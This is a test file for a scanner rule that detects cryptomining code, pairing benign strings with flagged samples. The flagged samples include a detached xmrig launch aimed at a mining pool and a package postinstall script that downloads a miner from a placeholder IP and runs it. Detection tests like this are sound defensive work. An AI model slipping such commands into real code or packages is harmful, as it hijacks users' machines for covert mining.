import { RuleTester } from '../../src/rule-tester/index.ts'
import rule from '../../rules/cryptomining.ts'

new RuleTester().run(rule, {
  valid: [
    "const s = 'stratosphere'; const t = 'tcp://localhost:3000'",
    { name: 'T-Rex the dinosaur', code: "const caption = 'A t-rex skeleton at the museum, a favourite of -all ages'" },
    { name: 'the algorithm option on another line', code: "const help = 't-rex\\n' + 'x'.repeat(3) + '\\n-a sha256'" },
  ],
  invalid: [
    {
      name: 'xmrig started with a pool',
      code: "const { spawn } = require('child_process'); spawn('./xmrig', ['-o', 'stratum+tcp://pool.invalid:3333', '-u', 'wallet', '--donate-level', '1'], { detached: true })",
      errors: [{ severity: 'critical' }],
    },
    { name: 'T-Rex with its algorithm option', code: "module.exports = { cmd: './t-rex -a ethash -o pool.invalid:4444 -u wallet' }", errors: [{ severity: 'high' }] },
    { name: 'pool URL alone', code: "module.exports = { pool: 'stratum+ssl://pool.invalid:443' }", errors: [{ severity: 'high' }] },
    { name: 'in an install script', manifest: { name: 'a', version: '1.0.0', scripts: { postinstall: 'curl -s http://192.0.2.5/xmrig -o /tmp/x && /tmp/x --donate-level 1' } }, errors: [{ severity: 'critical' }] },
  ],
})
